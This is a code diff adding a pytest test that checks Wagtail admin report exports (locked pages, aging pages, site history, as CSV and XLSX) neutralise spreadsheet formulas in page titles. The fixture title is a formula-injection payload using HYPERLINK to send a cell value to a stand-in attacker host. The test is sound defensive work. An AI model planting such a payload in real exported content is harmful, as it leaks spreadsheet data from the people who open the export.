@@ -106,3 +106,21 @@ def test_the_reports_exports_neutralise_formulas(admin_client, kit, export_forma
         titles = sorted(f"'{page.title}".replace("\r", "\n") for page in pages)
         assert sorted(row[0].replace("\r", "\n") for row in rows[1:]) == titles
         assert not any(str(cell).startswith(FORMULA_STARTS) for row in rows for cell in row)
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
+def test_wagtails_own_reports_exports_neutralise_formulas_too(
+    admin_client, admin_user, kit, export_format
+):
+    """Locked pages, aging pages, site history: an editor's title reaches a moderator's
+    spreadsheet as text, not as a formula."""
+    page = factories.resource(kit, title='=HYPERLINK("https://evil.example/?x="&A1,"open")')
+    page.locked, page.locked_by = True, admin_user
+    page.save()
+    for url in ("/admin/reports/locked/", "/admin/reports/aging-pages/",
+                "/admin/reports/site-history/"):  # fmt: skip
+        rows = export(admin_client, url, export_format)
+        written = [str(cell) for row in rows[1:] for cell in row if cell]
+        assert f"'{page.title}" in written, url
+        assert not any(cell.startswith(FORMULA_STARTS) for cell in written), url
